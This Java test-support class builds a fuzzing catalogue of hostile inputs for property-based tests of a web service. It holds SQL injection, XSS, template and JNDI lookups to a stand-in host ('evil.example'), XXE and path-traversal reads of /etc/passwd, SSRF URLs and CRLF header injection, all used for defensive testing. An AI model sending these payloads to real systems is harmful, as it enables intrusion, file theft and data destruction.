package io.casework.testsupport.fuzz;

import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * A catalogue of values that have broken web services before — injection payloads for SQL, HTML, XML, Qute,
 * EL and log files, path traversal, control and bidi characters, lone surrogates, out-of-range numbers and dates —
 * and jqwik arbitraries that mix them with random text and values of the wrong JSON type.
 */
public final class HostileInput {

    /** Payloads that must come out escaped wherever stored text is rendered (mails, feeds, the status page). */
    public static final List<String> MARKUP_INJECTIONS = List.of(
            "<script>alert('xss')</script>",
            "\"><img src=x onerror=alert(1)>",
            "]]><injected>cdata escape</injected><![CDATA[",
            "{{7*7}} {#if true}qute{/if} {inject:bean} {cdi:bean}",
            "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
            "</title></head><body onload=alert(1)>",
            "<!-- comment --><?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "javascript:alert(1)",
            "&amp; &lt; &#x3C;script&#x3E;");

    public static final List<String> CATALOGUE = List.of(
            "", " ", "\t", "null", "undefined", "true", "0", "-1", "NaN", "Infinity", "1e309",
            "99999999999999999999999999999", "-9223372036854775809",
            "' OR '1'='1", "'; DROP TABLE cases; --", "1) UNION SELECT usename, passwd FROM pg_shadow --",
            "\\'; SELECT pg_sleep(5); --", "%' AND 1=1 AND '%'='", "$$; DROP TABLE outbox_event; $$",
            "<script>alert('xss')</script>", "\"><img src=x onerror=alert(1)>", "]]>", "<![CDATA[x]]>",
            "{{7*7}}", "${7*7}", "#{7*7}", "{#for x in 1..999999999}{x}{/for}", "{inject:config}", "${jndi:ldap://x/a}",
            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd",
            "....//....//etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "\\\\evil.example\\share",
            "a\u0000b", "\u0000", "\u0007\u0008\u001b[31mred", "line\r\nInjected-Header: x", "\n[ERROR] forged log line",
            "\u202eevil.exe\u202dtxt", "\ufeffbom", "\u200b\u200c\u200d", "\uD800", "x\uDC00y", "\uFFFF\uFFFE",
            "😀👩‍👩‍👧‍👦🏳️‍🌈", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ǅǈǋ ß ﬁ İ ı", "日本語のテキスト", "مرحبا",
            "someone@acme.example\r\nBcc: victim@evil.example", "\"quoted space\"@acme.example", "@", "a@b",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "2026-02-30", "2026-13-01T00:00:00Z", "0000-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
            "-1000000-01-01", "P9999999999999D", "PT-1H", "P", "PT", "1970-01-01T00:00:00Z",
            "p1", "P0", "P5", "CRITICAL ", "critical", "UNKNOWN_ENUM_VALUE", "Open", "OPEN\u0000",
            "*", "W/\"x\"", "\"", "-updatedAt,;DROP", "https://169.254.169.254/latest/meta-data/",
            "http://localhost:22/", "gopher://evil.example", "//evil.example", "mailto:x@y");

    private HostileInput() {
    }

    /** Hostile text: the catalogue, huge strings, control characters and random Unicode. */
    public static Arbitrary<String> strings() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, Arbitraries.of(CATALOGUE)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(MARKUP_INJECTIONS)),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().all().ofMinLength(0).ofMaxLength(40)),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8)),
                net.jqwik.api.Tuple.of(1, huge()));
    }

    /** Strings far over any sensible limit: 5,000 to 200,000 characters (the longest rarely, to keep runs short). */
    public static Arbitrary<String> huge() {
        return Arbitraries.frequency(net.jqwik.api.Tuple.of(6, 5_000), net.jqwik.api.Tuple.of(3, 20_000),
                        net.jqwik.api.Tuple.of(1, 200_000))
                .flatMap(n -> Arbitraries.of("A", "é", "<", "😀", "'").map(s -> s.repeat(n / s.length())));
    }

    /** Text that can travel in an HTTP header (visible ASCII and Latin-1; no CR, LF or NUL). */
    public static Arbitrary<String> headerValues() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, Arbitraries.of(CATALOGUE).map(HostileInput::headerSafe)),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(60)),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('\u00a0', '\u00ff').ofMinLength(1).ofMaxLength(20)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(4_000, 7_000).map("x"::repeat)));
    }

    /** JSON values of any type, mostly of the wrong one for wherever they land. */
    public static Arbitrary<JsonNode> jsonValues() {
        JsonNodeFactory f = JsonNodeFactory.instance;
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, strings().map(s -> (JsonNode) f.textNode(s))),
                net.jqwik.api.Tuple.of(3, Arbitraries.<JsonNode>of(f.nullNode(), f.booleanNode(true), f.numberNode(0),
                        f.numberNode(-1), f.numberNode(Long.MAX_VALUE), f.numberNode(Long.MIN_VALUE),
                        f.numberNode(new java.math.BigInteger("123456789012345678901234567890")),
                        f.numberNode(1.5e308), f.numberNode(-0.0), f.numberNode(3.14159),
                        f.arrayNode(), f.objectNode(), f.textNode(""))),
                net.jqwik.api.Tuple.of(2, Arbitraries.integers().map(i -> (JsonNode) f.numberNode(i))),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(10, 1_000, 20_000).map(HostileInput::hugeArray)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(50, 2_000).map(HostileInput::wideObject)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(64, 900).map(HostileInput::deepArray)));
    }

    static String headerSafe(String value) {
        StringBuilder out = new StringBuilder();
        value.chars().filter(c -> c == '\t' || (c >= 0x20 && c <= 0xff && c != 0x7f)).forEach(c -> out.append((char) c));
        return out.toString();
    }

    static JsonNode hugeArray(int size) {
        ArrayNode array = JsonNodeFactory.instance.arrayNode();
        for (int i = 0; i < size; i++) {
            array.add(i % 2 == 0 ? "<script>" + i : "x");
        }
        return array;
    }

    static JsonNode wideObject(int keys) {
        ObjectNode object = JsonNodeFactory.instance.objectNode();
        for (int i = 0; i < keys; i++) {
            object.put("k" + i, i);
        }
        return object;
    }

    static JsonNode deepArray(int depth) {
        JsonNode node = JsonNodeFactory.instance.textNode("bottom");
        for (int i = 0; i < depth; i++) {
            node = JsonNodeFactory.instance.arrayNode().add(node);
        }
        return node;
    }
}
